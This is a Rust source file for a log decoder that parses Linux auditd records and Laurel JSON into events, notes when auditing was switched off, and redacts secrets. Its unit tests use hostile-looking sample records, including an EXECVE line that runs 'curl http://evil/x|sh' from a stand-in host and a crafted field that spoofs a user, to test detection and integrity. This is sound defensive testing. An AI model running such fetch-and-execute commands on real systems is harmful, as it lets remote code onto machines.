//! The kernel's audit log as auditd writes it, and Laurel's JSON of it.

mod arguments;
mod boots;
mod event;
mod interpreted;
mod laurel;
mod meaning;
mod record;
mod syscalls;

use super::syslog;
use crate::redact::Redactor;
use crate::{
    Confidence, Context, Decoder, Error, Format, Output, RawRecord, Refused, RejectReason, Sample, json,
};
use ambit_event::{Event, EventId, Fields, Provenance, Span, Timestamp};
use boots::Boots;
use event::Said;
use interpreted::Dates;
use record::{Head, Part};
use std::collections::VecDeque;
use std::sync::Arc;

/// The source of what the kernel numbers.
pub const SOURCE: &str = "linux_auditd";
/// The source of what the audit daemon says of itself, with numbers of its own.
const DAEMON: &str = "linux_auditd_daemon";

/// `linux_auditd`
pub struct Auditd;

impl Format for Auditd {
    fn name(&self) -> &str {
        SOURCE
    }

    fn manual(&self) -> &str {
        include_str!("manual.txt")
    }

    fn recognize(&self, sample: &Sample<'_>) -> Confidence {
        let has = |line: &[u8], text: &[u8]| memchr::memmem::find(line, text).is_some();
        let is_record = |line: &[u8]| match line.first() {
            Some(b'{') => has(line, b"\"ID\":\"") && laurel::read(&json::text(line)).is_ok(),
            _ => {
                has(line, b"audit(") && {
                    let line = json::text(line);
                    record::head(&line).is_ok() || interpreted::is_record(&line)
                }
            }
        };
        let is_separator = |line: &[u8]| interpreted::is_separator(&json::text(line));
        match sample.lines.iter().any(|line| is_record(line)) {
            true => Confidence::share(94, sample.percent(|line| is_separator(line) || is_record(line))),
            false => Confidence::NONE,
        }
    }

    fn is_stateful(&self) -> bool {
        true
    }

    fn decoder(&self, context: &Context) -> Result<Box<dyn Decoder>, Error> {
        Ok(Box::new(Audit::new(context)))
    }
}

/// Events whose records are still awaited at most. The kernel writes those of one event together, but for
/// what other processors write between.
const MOST_OPEN: usize = 256;
/// Bytes of one event's records at most; later ones become an event of their own.
const MOST_BYTES: usize = 1 << 20;
/// Bytes of the records of all that are open.
const MOST_HELD: usize = 16 << 20;
/// Nanoseconds of the log after which nothing more is awaited for an event, as the audit tools do.
const PATIENCE: i64 = 2_000_000_000;
/// Closed events that are remembered, to know a record that comes too late.
const REMEMBERED: usize = 1024;
/// The kernel stamps records by a clock that moves with its ticks, 100 to 1000 a second.
const TICK: i64 = 10_000_000;

/// What makes records of one event: serial, time and host.
type Key = (i64, String, String);

/// An event whose records are still coming in.
struct Open {
    key: Key,
    at: Timestamp,
    boot: Option<Arc<str>>,
    lines: Vec<u8>,
    offset: u64,
    line: u64,
    is_late: bool,
}

impl Open {
    /// What is told of an event whose last records may still be written.
    fn waiting(mut self) -> Refused {
        self.lines.pop();
        Refused {
            offset: self.offset,
            line: self.line,
            n_bytes: self.lines.len() as u64,
            raw: self.lines,
            reason: RejectReason::new(
                "the file ends before this event does: further records of it may be written still",
            ),
        }
    }
}

struct Audit {
    context: Context,
    redactor: Redactor,
    open: VecDeque<Open>,
    n_held: usize,
    closed: VecDeque<Key>,
    boots: Boots,
    dates: Dates,
    /// Whether the events are parted by lines between, as ausearch does it.
    is_separated: bool,
    /// Since when the kernel was told to record nothing.
    off_since: Option<(Option<String>, Timestamp)>,
    /// What reads lines in frames that are no audit records.
    frames: Option<Box<dyn Decoder>>,
    last: Option<Timestamp>,
}

impl Audit {
    fn new(context: &Context) -> Self {
        Self {
            context: context.clone(),
            redactor: redactor(context),
            open: VecDeque::new(),
            n_held: 0,
            closed: VecDeque::new(),
            boots: Boots::default(),
            dates: Dates::new(context),
            is_separated: false,
            off_since: None,
            frames: None,
            last: None,
        }
    }

    fn head<'a>(&mut self, line: &'a str) -> Result<Head<'a>, RejectReason> {
        match record::head(line) {
            Err(_) if interpreted::is_record(line) => interpreted::head(line, &mut self.dates),
            read => read,
        }
    }

    /// A line between the events of ausearch: what was open is whole.
    fn separate(&mut self, out: &mut Output) {
        self.is_separated = true;
        while !self.open.is_empty() {
            self.close(0, out);
        }
    }

    /// What the kernel says of records that were lost, between those in frames.
    fn admit(&mut self, record: &RawRecord<'_>, out: &mut Output) -> Result<(), RejectReason> {
        let frames = match &mut self.frames {
            Some(frames) => frames,
            frames => {
                let made = syslog::Syslog.decoder(&self.context);
                frames.insert(made.map_err(|why| RejectReason::new(why.to_string()))?)
            }
        };
        let (n_before, n_losses) = (out.events.len(), out.losses.len());
        frames.decode(record, out)?;
        for loss in &mut out.losses[n_losses..] {
            loss.span.from = loss.span.from.min(self.last.unwrap_or(loss.span.from));
        }
        for event in &mut out.events[n_before..] {
            if event.source.is_empty() {
                syslog::SOURCE.clone_into(&mut event.source);
            }
        }
        Ok(())
    }

    fn host<'a>(&'a self, head: &Head<'a>) -> Option<&'a str> {
        head.host.or(self.context.host.as_deref())
    }

    /// Takes in a line of the audit log.
    fn take(&mut self, record: &RawRecord<'_>, text: &str, out: &mut Output) -> Result<(), RejectReason> {
        let head = match self.head(text) {
            Err(_) if syslog::admits_audit_loss(text) => return self.admit(record, out),
            read => read?,
        };
        self.last = self.last.max(Some(head.clock.at));
        let host = self.host(&head).unwrap_or("").to_owned();
        let boot = self.boots.of(&host, &head);
        self.close_until(head.clock.at.plus_nanos(-PATIENCE), out);
        let is_named = host.len() + head.stamp.len() <= boots::LONGEST;
        if syscalls::is_alone(&syscalls::kind(head.kind)) || !is_named {
            let said = Said::new(vec![part(&head)]);
            let event = self.event(&said, &head, boot.as_deref());
            self.note_losses(&said, &event, out);
            out.push(event);
            return Ok(());
        }
        let key = (head.serial, head.stamp.clone().into_owned(), host);
        let at = self.awaiting(&key);
        // Where auditd hands on to a plug-in, an event's end follows what is its last record elsewhere.
        if at.is_none() && matches!(head.kind, "EOE" | "1320") && self.closed.contains(&key) {
            out.n_silent += u64::from(!self.open.is_empty());
            return Ok(());
        }
        let at = at.unwrap_or_else(|| self.begin(key, &head, boot, record, out));
        let Some(open) = self.open.get_mut(at) else {
            return Ok(());
        };
        open.lines.extend_from_slice(record.bytes);
        open.lines.push(b'\n');
        self.n_held += record.bytes.len() + 1;
        // The last record of an event. auditd itself does not write down the one that says so.
        let is_last = !self.is_separated && matches!(head.kind, "EOE" | "PROCTITLE" | "1320" | "1327");
        if is_last || open.lines.len() > MOST_BYTES {
            self.close(at, out);
        }
        while self.n_held > MOST_HELD && !self.open.is_empty() {
            self.close(0, out);
        }
        Ok(())
    }

    fn awaiting(&self, key: &Key) -> Option<usize> {
        self.open.iter().rposition(|open| open.key == *key)
    }

    fn begin(
        &mut self,
        key: Key,
        head: &Head<'_>,
        boot: Option<Arc<str>>,
        record: &RawRecord<'_>,
        out: &mut Output,
    ) -> usize {
        if self.open.len() >= MOST_OPEN {
            self.close(0, out);
        }
        self.open.push_back(Open {
            is_late: self.closed.contains(&key),
            key,
            at: head.clock.at,
            boot,
            lines: Vec::new(),
            offset: record.offset,
            line: record.line,
        });
        self.open.len() - 1
    }

    /// Closes the events for which nothing more is awaited.
    fn close_until(&mut self, until: Timestamp, out: &mut Output) {
        while self.open.front().is_some_and(|open| open.at < until) {
            self.close(0, out);
        }
    }

    fn close(&mut self, at: usize, out: &mut Output) {
        let Some(mut open) = self.open.remove(at) else {
            return;
        };
        self.n_held = self.n_held.saturating_sub(open.lines.len());
        open.lines.pop();
        let text = json::text(&open.lines);
        let mut heads: Vec<Head<'_>> = text.split('\n').filter_map(|line| self.head(line).ok()).collect();
        if self.is_separated && is_backwards(&heads) {
            heads.reverse();
        }
        let parts = heads.iter().map(part).collect();
        let said = Said::new(parts);
        if let Some(head) = heads.first() {
            let mut event = self.event(&said, head, open.boot.as_deref());
            if open.is_late {
                event.id = EventId::default();
            }
            self.note_losses(&said, &event, out);
            event.raw.clone_from(&open.lines);
            event.provenance = Provenance {
                offset: open.offset,
                length: open.lines.len() as u64,
                line: open.line,
                ..Provenance::default()
            };
            out.push(event);
        }
        if self.closed.len() >= REMEMBERED {
            self.closed.pop_front();
        }
        self.closed.push_back(open.key);
    }

    fn event(&mut self, said: &Said<'_>, head: &Head<'_>, boot: Option<&str>) -> Event {
        let mut event = columns(said, head, &self.context);
        let stamp = format!("{}:{}", head.stamp, head.serial);
        event.fields = kept(said, &stamp, head.host, &mut self.redactor);
        self.name(&mut event, said, head, boot);
        event
    }

    /// What names the event: its number, its session, and its identity.
    fn name(&self, event: &mut Event, said: &Said<'_>, head: &Head<'_>, boot: Option<&str>) {
        let host = event.host.as_deref().unwrap_or("");
        let kinds: Vec<&str> = said.parts.iter().map(|part| &*part.kind).collect();
        // A copy from which some of the records were left out says less, and must not stand for the whole.
        let mut native = format!("{}:{}/{}", head.stamp, head.serial, kinds.join(","));
        // Nor may what somebody's text could bend stand for the exact records.
        if said.parts.iter().any(|part| part.unsure.is_some()) {
            native.push_str("/ambiguous");
        }
        event.id = EventId::native(SOURCE, host, &native);
        match boots::is_of_daemon(said.kind()) {
            true => DAEMON.clone_into(&mut event.source),
            false => event.sequence = Some(head.serial),
        }
        let session = said.set("ses").or_else(|| said.set("new-ses")).zip(boot);
        event.actor_session =
            session.map(|(session, boot)| self.context.keys.fingerprint(&format!("{host}:{boot}:{session}")));
    }

    /// What the log itself says is missing.
    fn note_losses(&mut self, said: &Said<'_>, event: &Event, out: &mut Output) {
        match said.kind() {
            "DAEMON_ERR" | "DAEMON_ABORT" => {
                let why = "the audit daemon says that it failed: records may not have been written";
                lose(out, event.host.clone(), event.when(), why);
            }
            "CONFIG_CHANGE" => match said.get("audit_enabled") {
                Some("0") if event.outcome == ambit_event::Outcome::Success => {
                    self.off_since
                        .get_or_insert_with(|| (event.host.clone(), event.time));
                }
                Some("1" | "2") => self.note_off(event.when().until, out),
                _ => {}
            },
            _ => {}
        }
    }

    fn note_off(&mut self, until: Timestamp, out: &mut Output) {
        if let Some((host, since)) = self.off_since.take() {
            let why = "auditing was switched off (audit_enabled=0)";
            lose(out, host, Span::new(since, until), why);
        }
    }
}

/// What a record says.
fn part<'a>(head: &Head<'a>) -> Part<'a> {
    match head.is_interpreted {
        true => interpreted::part(head.kind, head.body),
        false => record::part(head.kind, head.body),
    }
}

/// ausearch writes the records of an event from the last to the first.
fn is_backwards(heads: &[Head<'_>]) -> bool {
    let is_circumstance =
        |at: Option<&Head<'_>>| at.is_some_and(|head| event::is_circumstance(&syscalls::kind(head.kind)));
    is_circumstance(heads.first()) || !is_circumstance(heads.last())
}

fn lose(out: &mut Output, host: Option<String>, span: Span, why: &str) {
    out.losses.push(ambit_event::Loss {
        source: SOURCE.to_owned(),
        host,
        span,
        at_most: None,
        why: why.to_owned(),
    });
}

impl Decoder for Audit {
    fn decode(&mut self, record: &RawRecord<'_>, out: &mut Output) -> Result<(), RejectReason> {
        let text = record.lossy();
        if interpreted::is_separator(&text) {
            self.separate(out);
            return Ok(());
        }
        if !text.trim_start().starts_with('{') {
            return self.take(record, &text, out);
        }
        let (mut object, clock, serial) = laurel::read(&text)?;
        let event = {
            let head = laurel::head(&object, clock, serial);
            self.last = self.last.max(Some(clock.at));
            let said = Said::new(laurel::parts(&object));
            let host = self.host(&head).unwrap_or("").to_owned();
            let boot = self.boots.of(&host, &head);
            let mut event = columns(&said, &head, &self.context);
            self.name(&mut event, &said, &head, boot.as_deref());
            self.note_losses(&said, &event, out);
            event
        };
        self.redactor.fields(&mut object);
        out.push(Event {
            fields: object.kept(record.bytes.len()),
            ..event
        });
        Ok(())
    }

    fn held_from(&self) -> Option<u64> {
        // They stand in the order in which they began.
        self.open.front().map(|open| open.offset)
    }

    fn finish(&mut self, out: &mut Output) {
        // What ausearch wrote is all there.
        if out.may_grow && !self.is_separated {
            out.unfinished.extend(self.open.drain(..).map(Open::waiting));
        }
        while !self.open.is_empty() {
            self.close(0, out);
        }
        if let Some(last) = self.last {
            self.note_off(last.plus_nanos(1), out);
        }
    }
}

fn columns(said: &Said<'_>, head: &Head<'_>, context: &Context) -> Event {
    let mut event = Event::new(SOURCE, head.clock.at);
    event.precision = head.clock.resolution.max(TICK);
    event.host = head.host.or(context.host.as_deref()).map(str::to_owned);
    said.fill(&mut event, &context.keys);
    event
}

fn kept(said: &Said<'_>, stamp: &str, node: Option<&str>, redactor: &mut Redactor) -> Fields {
    let mut fields = said.fields(stamp, redactor);
    if let Some(node) = node {
        fields.insert("node".into(), json::Json::Text(node.into()));
    }
    fields.kept(1024)
}

/// What takes the secrets out of audit records. Their `sig` is the number of a signal, no signature.
pub fn redactor(context: &Context) -> Redactor {
    Redactor::new(&context.keys).sparing("sig")
}

/// One record that came by another way (a syslog message, a journal entry): its columns and fields. What
/// belongs to the same event stays apart.
pub fn single(text: &str, context: &Context, redactor: &mut Redactor) -> Option<Event> {
    let head = record::head(text).ok()?;
    let said = Said::new(vec![record::part(head.kind, head.body)]);
    let mut event = columns(&said, &head, context);
    event.fields = kept(
        &said,
        &format!("{}:{}", head.stamp, head.serial),
        head.host,
        redactor,
    );
    Some(event)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode_all;
    use ambit_event::{Batch, Keys};

    fn decode(text: &str) -> Batch {
        let format: Arc<dyn Format> = Arc::new(Auditd);
        let context = Context::bare(Keys::derive(&[7; 32]));
        decode_all(&format, text.as_bytes(), &context).unwrap_or_default()
    }

    #[test]
    fn records_of_one_event_are_joined_however_they_interleave() {
        let batch = decode(concat!(
            "type=SYSCALL msg=audit(10.000:5): arch=c000003e syscall=59 success=yes pid=7 auid=1000 ses=2 exe=\"/bin/ls\"\n",
            "type=SYSCALL msg=audit(10.000:6): arch=c000003e syscall=42 success=no exit=-13 pid=8 auid=0 ses=3 exe=\"/bin/nc\"\n",
            "type=EXECVE msg=audit(10.000:5): argc=2 a0=\"ls\" a1=\"-l\"\n",
            "type=SOCKADDR msg=audit(10.000:6): saddr=020001BBC00002070000000000000000\n",
            "type=PROCTITLE msg=audit(10.000:6): proctitle=6E63\n",
            "type=PATH msg=audit(10.000:5): item=0 name=\"/bin/ls\" nametype=NORMAL\n",
            "type=USER_CMD msg=audit(13.000:7): pid=9 uid=0 auid=1000 ses=2 msg='cwd=\"/\" cmd=\"id\" res=success'\n",
        ));
        let shown: Vec<_> = batch
            .events
            .iter()
            .map(|e| {
                (
                    e.sequence,
                    e.operation.as_deref(),
                    e.resource.as_deref(),
                    e.outcome.name(),
                )
            })
            .collect();
        assert_eq!(
            shown,
            [
                (Some(6), Some("connect"), Some("192.0.2.7:443"), "denied"),
                (Some(5), Some("execve"), Some("/bin/ls"), "success"),
                (Some(7), Some("USER_CMD"), Some("id"), "success"),
            ]
        );
        assert_eq!(batch.events[1].actor_session, batch.events[2].actor_session);
        assert_eq!(batch.events[1].message.as_deref(), Some("ls -l"));
        assert!(batch.rejects.is_empty());
    }

    #[test]
    fn auditing_that_is_switched_off_is_a_loss() {
        let batch = decode(concat!(
            "type=CONFIG_CHANGE msg=audit(10.000:5): op=set audit_enabled=0 old=1 auid=0 ses=1 res=1\n",
            "type=CONFIG_CHANGE msg=audit(70.000:6): op=set audit_enabled=1 old=0 auid=0 ses=1 res=1\n",
            "type=DAEMON_ERR msg=audit(80.000:9999): op=x res=failed\n",
        ));
        let spans: Vec<_> = batch
            .losses
            .iter()
            .map(|l| l.span.nanos() / 1_000_000_000)
            .collect();
        assert_eq!(spans, [60, 0]);
        assert_eq!(batch.events.iter().filter(|e| e.source == DAEMON).count(), 1);
    }

    #[test]
    fn what_a_text_could_bend_stands_for_no_exact_record() {
        let of = |text: &str| decode(text).events.remove(0);
        let exact = "type=SYSCALL msg=audit(1795433623.123:5): arch=c000003e syscall=59 success=yes pid=7 auid=1000 exe=\"/bin/ls\"\n";
        let read = "type=SYSCALL msg=audit(11/23/2026 11:33:43.123:5) : arch=x86_64 syscall=execve success=yes pid=7 auid=alice exe=/bin/ls";
        assert_eq!(of(exact).id, of(read).id);
        let bent = of(&format!("{read} auid=root"));
        assert_ne!(of(exact).id, bent.id);
        assert_eq!(bent.actor_user.as_deref(), Some("alice"));
        let text = bent.fields.as_json().unwrap_or_default();
        assert!(text.contains("exe=/bin/ls auid=root"), "{text}");
    }

    #[test]
    fn a_command_hides_nothing_of_itself() {
        let batch = decode(
            "type=EXECVE msg=audit(11/23/2026 11:33:43.123:5) : argc=4 a0=sh a1=-c a2=curl http://evil/x|sh a3=y a2=z \n",
        );
        let messages: Vec<_> = batch.events.iter().map(|e| e.message.as_deref()).collect();
        assert_eq!(messages, [Some("sh -c curl http://evil/x|sh y a2=z")]);
    }
}
